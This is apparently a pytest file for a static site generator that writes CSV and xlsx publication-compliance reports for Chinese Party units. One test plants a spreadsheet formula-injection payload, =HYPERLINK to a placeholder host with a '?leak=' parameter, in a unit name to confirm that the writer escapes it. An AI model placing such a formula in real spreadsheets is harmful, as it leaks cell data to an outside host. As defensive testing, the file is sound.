"""The reports the organisation department hands on (issue 20): the CSV files are
UTF-8 with a BOM, ``--as-of`` takes the date forms front-matter takes, and the
``stats --format xlsx`` workbook carries the numbers of ``data/compare.json``.

Real builds and the real CLI (``python -m generator``) in temporary sites.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io

import pytest
from conftest import post_text, run_cli, write_site

from generator.cli import _date
from generator.write.csvout import csv_bytes


def test_csv_bytes_start_with_a_bom_and_read_back_with_utf8_sig() -> None:
    raw = csv_bytes([["单位", "覆盖率(%)"], ["=1+2", "87.5"]])
    assert raw.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")))) == [["单位", "覆盖率(%)"], ["'=1+2", "87.5"]]


@pytest.mark.parametrize(
    "written",
    ["2026-06-30", "2026/6/30", "2026.6.30", "2026年6月30日", "２０２６-０６-３０", "2026-06-30 14:30", "2026-06-30T01:30+08:00"],
)
def test_as_of_accepts_the_front_matter_date_forms(written: str) -> None:
    # the day as written, never shifted by a time or an offset
    assert _date(written) == dt.date(2026, 6, 30)


@pytest.mark.parametrize(("written", "why"), [("2026-02-30", "只有 28 天"), ("2026-13-01", "月份应当在 1 到 12 之间"), ("明天", "格式不对")])
def test_as_of_refuses_other_text_in_chinese_listing_the_forms(written: str, why: str) -> None:
    with pytest.raises(argparse.ArgumentTypeError) as info:
        _date(written)
    assert why in str(info.value) and "2026年6月30日" in str(info.value) and "2026/6/30" in str(info.value)


def test_stats_csv_has_a_bom_and_as_of_in_chinese_form(tmp_path) -> None:
    site = write_site(tmp_path / "site", {"content/jx/a.md": post_text(branch="jx-jg1", meeting="支部委员会")})
    iso = run_cli("stats", str(site), "--as-of", "2026-11-27", "--format", "csv")
    chinese = run_cli("stats", str(site), "--as-of", "2026年11月27日", "--format", "csv")
    assert iso.returncode == 0 and chinese.returncode == 0, iso.stderr + chinese.stderr
    assert iso.stdout.startswith("\ufeff") and iso.stdout == chinese.stdout
    bad = run_cli("stats", str(site), "--as-of", "2026-11-31", "--format", "csv")
    assert bad.returncode == 2 and "只有 30 天" in bad.stderr and "2026年6月30日" in bad.stderr and "Traceback" not in bad.stderr


# -- the workbook ---------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A2,"点击")'


def workbook_site(root):
    from conftest import UNIT_TOML

    wy = UNIT_TOML.replace('name = "机械工程学院党委"', "name = '" + HYPERLINK + "'").replace("jx-", "wy-").replace("order = 10", "order = 20")
    return write_site(
        root,
        {
            "content/wy/_unit.toml": wy,
            "content/jx/2026/c03.md": post_text(title="三月支委会", date="2026-03-05", branch="jx-jg1", meeting="支部委员会", category="组织生活"),
            "content/jx/2026/c04.md": post_text(title="四月支委会", date="2026-04-08", branch="jx-jg1", meeting="支部委员会"),
            "content/jx/2026/s05.md": post_text(title="五月支委会", date="2026-05-08", branch="jx-xs1", meeting="支部委员会", category="理论学习"),
            "content/jx/2026/dongtai.md": post_text(title="动态", date="2026-06-01", section="党建动态", category="推进工作"),
            "content/wy/2026/c03.md": post_text(title="外语三月支委会", date="2026-03-09", branch="wy-jg1", meeting="支部委员会"),
        },
    )


def _rows(ws):
    head, *rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(head, r, strict=False)) for r in rows]


def test_workbook_numbers_equal_compare_json(tmp_path) -> None:
    import json
    from io import BytesIO

    import openpyxl

    from generator.build.builder import Builder, BuildOptions

    site = workbook_site(tmp_path / "site")
    out = tmp_path / "out"
    result = Builder(BuildOptions(site, out, as_of=dt.date(2026, 11, 27))).build()
    assert result.ok, [p.format() for p in result.problems]
    data = json.loads((out / "data/compare.json").read_text("utf-8"))["years"]["2026"]["units"]
    site_xlsx = (out / "compare/2026.xlsx").read_bytes()
    assert 'download>2026年对标工作簿' in (out / "compare/index.html").read_text("utf-8")

    xlsx = tmp_path / "对标.xlsx"
    proc = run_cli("stats", str(site), "--as-of", "2026年11月27日", "--format", "xlsx", "-o", str(xlsx))
    assert proc.returncode == 0 and "已写入" in proc.stderr, proc.stderr
    assert xlsx.read_bytes() == site_xlsx  # the download and the command give the same file

    wb = openpyxl.load_workbook(BytesIO(site_xlsx))
    assert wb.sheetnames == ["单位对标", "支部对标", "未公开", "栏目分类"]
    for ws in wb:
        assert ws.freeze_panes == "A2" and ws["A1"].font.bold, ws.title
        assert all(ws.column_dimensions[c].width >= 8 for c in "ABC"), ws.title

    units = _rows(wb["单位对标"])
    assert [r["单位代码"] for r in units] == sorted(data, key=lambda k: [r["单位代码"] for r in units].index(k)) and len(units) == len(data) == 2
    for r in units:
        d = data[r["单位代码"]]
        assert (r["应公开"], r["已公开"], r["发布总数"]) == (d["cadence"]["due"], d["cadence"]["met"], d["posts"])
        assert r["覆盖率"] == pytest.approx(d["cadence"]["rate"])
    rate_col = [c.value for c in wb["单位对标"][1]].index("覆盖率")
    assert all(row[rate_col].number_format == "0.0%" for row in wb["单位对标"].iter_rows(min_row=2))
    # an author-written unit name never runs as a formula
    assert {r["单位"] for r in units} == {"机械工程学院党委", "'" + HYPERLINK}

    branches = _rows(wb["支部对标"])
    for code, d in data.items():
        mine = [r for r in branches if r["单位代码"] == code]
        assert sum(r["应公开"] for r in mine) == d["cadence"]["due"] and sum(r["已公开"] for r in mine) == d["cadence"]["met"]
        for r in mine:
            assert r["覆盖率"] == (pytest.approx(r["已公开"] / r["应公开"]) if r["应公开"] else None)
    jg1 = next(r for r in branches if r["支部代码"] == "jx-jg1" and r["会议"] == "支部委员会")
    assert (jg1["应公开"], jg1["已公开"]) == (10, 2)  # Jan–Oct due by Nov 27; March and April held

    missed = {(r["单位代码"], r["支部代码"] or None, r["会议"], r["周期代码"]) for r in _rows(wb["未公开"])}
    assert missed == {(code, m["branch"], m["meeting"], m["period"]) for code, d in data.items() for m in d["missed"]}
    assert len(_rows(wb["未公开"])) == sum(len(d["missed"]) for d in data.values())

    for r in _rows(wb["栏目分类"]):
        d = data[r["单位代码"]]
        assert {k.split(":", 1)[1]: v for k, v in r.items() if k.startswith("栏目:")} == d["by_section"]
        assert {k.split(":", 1)[1]: v for k, v in r.items() if k.startswith("分类:")} == d["by_category"]
        assert r["发布总数"] == d["posts"] and r["未分类"] == d["uncategorized"]


def test_workbook_bytes_are_the_same_in_two_builds(tmp_path) -> None:
    import time

    from generator.build.builder import Builder, BuildOptions

    site = workbook_site(tmp_path / "site")
    first, second = tmp_path / "a", tmp_path / "b"
    assert Builder(BuildOptions(site, first, as_of=dt.date(2026, 11, 27))).build().ok
    time.sleep(1.1)  # a later second: openpyxl's own save time would differ
    assert Builder(BuildOptions(site, second, as_of=dt.date(2026, 11, 27))).build().ok
    assert (first / "compare/2026.xlsx").read_bytes() == (second / "compare/2026.xlsx").read_bytes()


def test_stats_xlsx_needs_an_output_file(tmp_path) -> None:
    site = workbook_site(tmp_path / "site")
    proc = run_cli("stats", str(site), "--as-of", "2026-11-27", "--format", "xlsx")
    assert proc.returncode == 2 and "-o" in proc.stderr and "Traceback" not in proc.stderr and proc.stdout == ""


def test_xlsx_writer_escapes_text_drops_control_characters_and_keeps_types() -> None:
    from io import BytesIO

    import openpyxl

    from generator.write.xlsx import Book, Sheet, column_letter

    assert [column_letter(i) for i in (1, 26, 27, 52, 703)] == ["A", "Z", "AA", "AZ", "AAA"]
    sheet = Sheet("it's 表", ["名称", "数", "率"], [["A&B<c>\x01 ", 3, 0.25], ["", None, None]], [10, 6, 8], frozenset({2}))
    data = Book([sheet], title="t&", creator="liangshai").save(dt.datetime(2026, 1, 2))
    ws = openpyxl.load_workbook(BytesIO(data))["it's 表"]
    assert [[c.value for c in row] for row in ws.iter_rows()] == [["名称", "数", "率"], ["A&B<c> ", 3, 0.25], [None, None, None]]
    assert ws["C2"].number_format == "0.0%" and ws["A1"].font.bold and ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:C3"
    assert data == Book([sheet], title="t&", creator="liangshai").save(dt.datetime(2026, 1, 2))


def test_a_new_post_remakes_only_its_years_workbook_and_the_output_equals_a_clean_build(tmp_path, monkeypatch) -> None:
    import filecmp

    from generator.build.builder import Builder, BuildOptions
    from generator.write import workbook

    made: list[int] = []
    real = workbook.workbook_bytes
    monkeypatch.setattr(workbook, "workbook_bytes", lambda ym, model: made.append(ym.year) or real(ym, model))

    site = workbook_site(tmp_path / "site")
    (site / "content/jx/2025").mkdir()
    (site / "content/jx/2025/old.md").write_text(post_text(title="去年支委会", date="2025-05-08", branch="jx-jg1", meeting="支部委员会"), "utf-8")
    out = tmp_path / "out"
    options = BuildOptions(site, out, as_of=dt.date(2026, 11, 27))
    assert Builder(options).build().ok and sorted(made) == [2025, 2026]
    made.clear()
    (site / "content/jx/2026/c06.md").write_text(post_text(title="六月支委会", date="2026-06-08", branch="jx-jg1", meeting="支部委员会"), "utf-8")
    assert Builder(options).build().ok
    assert made == [2026]  # 2025's figures did not change: its workbook is not made again
    clean = tmp_path / "clean"
    assert Builder(BuildOptions(site, clean, as_of=dt.date(2026, 11, 27))).build().ok
    for y in (2025, 2026):
        assert filecmp.cmp(out / f"compare/{y}.xlsx", clean / f"compare/{y}.xlsx", shallow=False), y
